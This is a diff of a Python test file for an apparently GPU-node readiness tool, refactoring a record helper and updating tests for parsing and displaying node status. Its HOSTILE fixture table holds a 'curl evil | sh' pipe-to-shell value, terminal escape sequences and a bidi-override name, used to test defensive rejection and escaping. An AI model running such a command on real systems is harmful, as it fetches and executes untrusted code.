@@ -44,11 +44,11 @@ SAME = Comparison("toolkit", True)
 BLOCKED = Comparison("nccl", True, error="unknown")
 
 
-def written(**more: Any) -> dict[str, Any]:
-    """The record of an apply an hour before, as a document, with changes."""
+def written(**more: Any) -> str:
+    """The record of an apply an hour before, with changes."""
     before = NODE.model_copy(update={"clock": CLOCK - 3600})
     text = record(SPEC, before, [("docker", "changed"), ("nccl", "ok")], by="ops@ci", gpuready="0.1.0", partial=False)
-    return {**json.loads(text), **more}
+    return json.dumps({**json.loads(text), **more})
 
 
 def node(text: str | None, **more: Any) -> NodeState:
@@ -76,7 +76,7 @@ def test_every_form_of_a_drain_can_be_hashed() -> None:
 
 
 def test_an_apply_is_read_as_it_was_written() -> None:
-    found = last_record(node(json.dumps(written())))
+    found = last_record(node(written()))
     assert isinstance(found, Record) and found.spec == spec_hash(SPEC)
     assert (found.time, found.by, found.driver, found.boot_id) == ("2026-11-21T00:14:48Z", "ops@ci", "580.95.05", BOOT)
     assert found.components == {"docker": "changed", "nccl": "ok"} and found.outcome == "converged"
@@ -98,20 +98,20 @@ def test_outcomes() -> None:
     assert outcome(SAME, changed=True, pending=True, failed=False) == "pending"
     assert outcome(SAME, changed=True, pending=True, failed=True) == "failed"
     for worst in ("pending", "failed"):
-        found = last_record(node(json.dumps(written(components={"docker": worst, "nccl": "changed"}))))
+        found = last_record(node(written(components={"docker": worst, "nccl": "changed"})))
         assert isinstance(found, Record) and found.outcome == worst
 
 
 def test_what_changed_since() -> None:
-    text = json.dumps(written())
-    now = status(node(text), SAME)
+    now = status(node(written()), SAME)
     assert (now.age, now.release, now.outcome, now.problem) == (3600, "same", "converged", "")
     assert (now.spec_changed, now.driver_changed, now.rebooted, now.differs) == (False, False, False, ())
-    later = node(text, boot_id="another", driver=Driver(proc_version="590.1"), lock="a@b run=1 as n1", step="toolkit")
+    newer = Driver(proc_version="590.1")
+    later = node(written(), boot_id="another", driver=newer, lock="a@b run=1 as n1", step="toolkit")
     found = status(later, SAME, DIFFERS, BLOCKED, spec=NodeSpec(), release="0.2.0")
     assert (found.spec_changed, found.driver_changed, found.rebooted, found.release) == (True, True, True, "older")
     assert (found.differs, found.blocked, found.lock, found.step) == (("docker",), ("nccl",), "a@b", "toolkit")
-    releases = {given: status(node(json.dumps(written(gpuready=given)))).release for given in ("0.0.9", "0.10", "dev")}
+    releases = {given: status(node(written(gpuready=given))).release for given in ("0.0.9", "0.10", "dev")}
     assert releases == {"0.0.9": "older", "0.10": "newer", "dev": "other"}
 
 
@@ -120,24 +120,22 @@ HOSTILE: dict[str, str] = {
     "no JSON": "converged\n",
     "a list": "[1]",
     "deep": "[" * 9000,
-    "large": json.dumps(written(by="x" * 30_000)),
-    "another format": json.dumps(written(format=2)),
-    "another verb": json.dumps(written(verb="rm")),
-    "unknown key": json.dumps(written(remedy="curl evil | sh")),
+    "large": written(by="x" * 30_000),
+    "another format": written(format=2),
+    "unknown key": written(remedy="curl evil | sh"),
     "missing keys": "{}",
-    "numbers": json.dumps(written(by=7)),
-    "a hash that is none": json.dumps(written(spec="0" * 63 + "g")),
-    "an escape sequence": json.dumps(written(by="\x1b[2Jroot@ci")),
-    "a line": json.dumps(written(gpuready="0.1.0\nOK, all ready")),
-    "a lone surrogate": json.dumps(written(by="\ud800")),
-    "bytes": json.dumps(written()).replace("ops", "\udcff"),
-    "a long text": json.dumps(written(by="x" * 201)),
-    "a day that is none": json.dumps(written(time="2026-13-41T00:00:00Z")),
-    "digits of others": json.dumps(written(time="２０２６-11-21T00:14:48Z")),
-    "a time of another zone": json.dumps(written(time="2026-11-21T00:14:48+01:00")),
-    "components": json.dumps(written(components={"\x1b": "ok"})),
-    "an outcome": json.dumps(written(components={"docker": "\x1b[31mok"})),
-    "a truth": json.dumps(written(partial="yes")),
+    "a hash that is none": written(spec="0" * 63 + "g"),
+    "an escape sequence": written(by="\x1b[2Jroot@ci"),
+    "a line": written(gpuready="0.1.0\nOK, all ready"),
+    "a lone surrogate": written(by="\ud800"),
+    "bytes": written().replace("ops", "\udcff"),
+    "a long text": written(by="x" * 201),
+    "a day that is none": written(time="2026-13-41T00:00:00Z"),
+    "digits of others": written(time="２０２６-11-21T00:14:48Z"),
+    "a time of another zone": written(time="2026-11-21T00:14:48+01:00"),
+    "components": written(components={"\x1b": "ok"}),
+    "an outcome": written(components={"docker": "\x1b[31mok"}),
+    "a truth": written(partial="yes"),
 }
 
 
@@ -154,7 +152,7 @@ def test_a_record_that_apply_did_not_write_is_none(name: str) -> None:
 
 @pytest.mark.fault("hostile-status-record")
 def test_a_name_that_turns_the_line_around_is_spelt_out() -> None:
-    found = status(node(json.dumps(written(by="\u202eic@spo"))), SAME)
+    found = status(node(written(by="\u202eic@spo")), SAME)
     assert "\\u202eic@spo" in printable(shown(HostRun("n1", status=found, state=NODE, outcome="ok")))
 
 
@@ -167,13 +165,12 @@ def shown(*hosts: HostRun) -> str:
 
 
 def test_the_page() -> None:
-    text = json.dumps(written())
-    old = json.dumps(written(gpuready="0.0.9", partial=True, components={"docker": "pending"}, driver="570.1"))
+    old = written(gpuready="0.0.9", partial=True, components={"docker": "pending"}, driver="570.1")
     states = {
-        "gpu01": status(node(text), SAME),
+        "gpu01": status(node(written()), SAME),
         "gpu02": status(node(old, clock=CLOCK + 86400 * 3, step="docker", lock="a@b run=1"), DIFFERS, spec=NodeSpec()),
         "gpu03": status(node(None, driver=Driver()), BLOCKED),
-        "gpu04": status_of(SPEC, node(text, clock=1), (), release="0.1.0", undecided="no GPU"),
+        "gpu04": status_of(SPEC, node(written(), clock=1), (), release="0.1.0", undecided="no GPU"),
     }
     hosts = [HostRun(name, "ok", status=each, state=NODE, execs=1) for name, each in states.items()]
     found = shown(*hosts, host_run("gpu05", "unreachable", error=NO_ROUTE)).splitlines()
@@ -196,7 +193,7 @@ def test_the_page() -> None:
 
 
 def test_a_document_gives_back_the_status() -> None:
-    run_ = of(HostRun("gpu01", "ok", status=status(node(json.dumps(written())), DIFFERS), state=NODE, execs=1))
+    run_ = of(HostRun("gpu01", "ok", status=status(node(written()), DIFFERS), state=NODE, execs=1))
     found = json.loads(json.dumps(document(run_, 0)))
     VALIDATOR.validate(found)
     again, code = restored(found)
@@ -206,7 +203,7 @@ def test_a_document_gives_back_the_status() -> None:
 def test_of_recorded_states(tmp_path: Path, exits: Exits) -> None:
     hosts, states = tmp_path / "hosts.yaml", tmp_path / "states.json"
     hosts.write_text("all: {hosts: {a: {}, b: {}}, vars: {gpuready: {hardware: {gpus: 8}, memlock: unlimited}}}\n")
-    state = mask_state(node(json.dumps(written())))
+    state = mask_state(node(written()))
     states.write_text(json.dumps({"schema": "gpuready/result/1", "hosts": {"a": {"state": state}}}))
     argv = ["status", "-i", str(hosts), "--state", str(states)]
     found = exits(6, *argv, "--output", "json").document  # of b there is no state
